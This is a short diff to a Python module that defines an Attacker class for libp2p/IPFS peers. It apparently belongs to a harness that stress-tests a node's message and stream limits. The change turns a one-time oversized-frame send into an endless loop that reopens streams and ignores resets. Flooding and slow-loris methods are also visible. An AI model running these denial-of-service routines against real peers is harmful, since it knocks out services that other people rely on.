@@ -7,12 +7,14 @@ and the root of what it offers where it offers anything.
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import hashlib
 import sys
 from typing import TYPE_CHECKING
 
 import trio
 from libp2p.custom_types import TProtocol
+from libp2p.network.stream.exceptions import StreamError
 from libp2p.peer.id import ID
 
 from bacalhau.ipfs.dagpb import Link, varint
@@ -131,9 +133,11 @@ class Attacker:
         async with trio.open_nursery() as nursery:
             for count in (1000, 10_000, 10_000, 10_000):
                 nursery.start_soon(send, count)
-            # Above the limit of any message.
-            stream = await self._open()
-            await write_frame(stream, varint(64 << 20) + bytes(1 << 20))
+            while True:
+                # Above the limit of any message: the victim resets the stream.
+                with contextlib.suppress(StreamError):
+                    await write_frame(await self._open(), varint(64 << 20) + bytes(1 << 20))
+                await trio.sleep(0.5)
 
     async def slow_loris(self) -> None:
         """More streams than anybody needs, each with the beginning of a message that never ends."""
